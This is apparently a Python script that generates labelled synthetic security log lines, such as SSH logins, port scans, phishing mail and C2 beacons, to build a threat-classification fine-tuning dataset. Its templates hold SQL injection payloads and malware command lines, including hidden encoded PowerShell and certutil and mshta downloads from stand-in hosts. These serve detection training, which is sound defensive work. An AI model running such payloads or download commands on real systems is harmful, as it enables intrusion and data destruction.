"""Write data/finetune/threat_{train,heldout}.jsonl: synthetic security log lines with JSON labels.

Deterministic (one seeded random generator): running it again writes the same files. Every
address comes from the documentation blocks of RFC 5737 or private RFC 1918 space, every domain
from the reserved example/test/invalid names, every user and host name is invented.
Released under CC0-1.0 with the rest of data/finetune/.

    python scripts/make_threat_dataset.py
"""

from __future__ import annotations

import json
import random
from pathlib import Path

SEED = 20261126
PER_CATEGORY = {"train": 19, "heldout": 5}
OUT = Path(__file__).resolve().parent.parent / "data" / "finetune"

USERS = ["alice", "bob", "deploy", "backup", "jchen", "mlopez", "svc-build", "ops", "nadia", "tkim"]
BAD_USERS = ["root", "admin", "oracle", "test", "ubuntu", "guest", "postgres", "pi", "support", "user1"]
HOSTS = ["web-01", "web-02", "db-01", "ws-114", "ws-207", "vpn-gw", "mail-01", "build-03", "fs-02", "ws-031"]
PAGES = ["/index.html", "/static/app.css", "/static/logo.png", "/api/health", "/docs/start", "/login",
         "/products?page=2", "/api/v1/orders/1842", "/favicon.ico", "/about"]
C2_DOMAINS = ["beacon.c2.test", "sync-node.c2.test", "cdn-check.invalid", "telemetry-upd.invalid"]
C2_IPS = ["203.0.113.42", "198.51.100.23", "198.51.100.99"]
PHISH_DOMAINS = ["login-update.example", "invoice-portal.example", "wallet-verify.invalid", "secure-payments.example"]
PHISH_SUBJECTS = ["Urgent: verify your account", "Invoice overdue - action required", "Your mailbox is full",
                  "Password expires today", "Payment failed, update details"]
SQLI = ["id=1' OR '1'='1", "id=5 UNION SELECT username,password FROM users--", "q=' OR 1=1--",
        "user=admin'--", "id=3; DROP TABLE orders--", "cat=1 AND SLEEP(5)--"]
MALWARE = ["powershell.exe -nop -w hidden -enc {b64}", "rundll32.exe C:\\Users\\Public\\{f}.dll,Start",
           "certutil.exe -urlcache -split -f http://update-check.test/{f}.exe", "mshta.exe http://update-check.test/{f}.hta",
           "wscript.exe C:\\Users\\{u}\\AppData\\Roaming\\{f}.js"]
PORTS = [21, 22, 23, 25, 445, 1433, 3306, 3389, 5900, 8080]


def _ext_ip(rng: random.Random) -> str:
    return f"{rng.choice(['192.0.2', '198.51.100', '203.0.113'])}.{rng.randint(1, 254)}"


def _int_ip(rng: random.Random) -> str:
    return f"10.{rng.randint(0, 9)}.{rng.randint(0, 40)}.{rng.randint(2, 250)}"


def _time(rng: random.Random) -> str:
    return f"Nov {rng.randint(1, 28):2d} {rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"


def _line(category: str, rng: random.Random) -> str:
    host = rng.choice(HOSTS)
    if category == "authentication":
        how = rng.choice(["publickey", "password", "keyboard-interactive"])
        return f"{host} sshd: Accepted {how} for {rng.choice(USERS)} from {_int_ip(rng)}"
    if category == "web-request":
        return f'{_int_ip(rng)} "GET {rng.choice(PAGES)}" {rng.choice([200, 200, 304])}'
    if category == "brute-force":
        who = rng.choice(BAD_USERS)
        who = f"invalid user {who}" if rng.random() < 0.5 else who
        return f"{host} sshd: Failed password for {who} from {_ext_ip(rng)} ({rng.randint(6, 90)} failures)"
    if category == "port-scan":
        return f"fw: DROP SRC={_ext_ip(rng)} DPT={rng.choice(PORTS)} SYN ({rng.randint(20, 900)} ports in {rng.randint(5, 60)}s)"
    if category == "sql-injection":
        page = rng.choice(["/products", "/search", "/api/items", "/login", "/report"])
        return f'{_ext_ip(rng)} "GET {page}?{rng.choice(SQLI)}" {rng.choice([200, 500, 403])}'
    if category == "command-and-control":
        dest = rng.choice(C2_DOMAINS + C2_IPS)
        return f"proxy: {host} CONNECT {dest}:443 every {rng.choice([30, 60, 120, 300])}s ({rng.randint(40, 900)} beacons)"
    if category == "malware":
        cmd = rng.choice(MALWARE).format(b64="".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8)) + "==",
                                         f=rng.choice(["svc", "update", "inv_2026", "tmp31", "helper"]), u=rng.choice(USERS))
        return f"edr {host}: {cmd}"
    if category == "phishing":
        domain = rng.choice(PHISH_DOMAINS)
        return f"mail-gw: from no-reply@{domain} to {rng.choice(USERS)} subject \"{rng.choice(PHISH_SUBJECTS)}\""
    raise KeyError(category)


LABELS = {"authentication": "benign", "web-request": "benign", "brute-force": "suspicious", "port-scan": "suspicious",
          "sql-injection": "malicious", "command-and-control": "malicious", "malware": "malicious", "phishing": "malicious"}


def build() -> dict[str, list[dict[str, str]]]:
    """The two splits: every category in both, lines unique across splits."""
    rng = random.Random(SEED)
    seen: set[str] = set()
    splits: dict[str, list[dict[str, str]]] = {name: [] for name in PER_CATEGORY}
    for name, count in PER_CATEGORY.items():
        for category, verdict in LABELS.items():
            made = 0
            while made < count:
                text = _line(category, rng)
                if text in seen:
                    continue
                seen.add(text)
                splits[name].append({"text": text, "verdict": verdict, "category": category})
                made += 1
        rng.shuffle(splits[name])
        for i, row in enumerate(splits[name]):
            row["id"] = f"{name}-{i:03d}"
    return splits


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for name, rows in build().items():
        path = OUT / f"threat_{name}.jsonl"
        path.write_text("".join(json.dumps({"id": r["id"], "text": r["text"], "verdict": r["verdict"],
                                             "category": r["category"]}) + "\n" for r in rows))
        print(f"{path}: {len(rows)} examples")


if __name__ == "__main__":
    main()
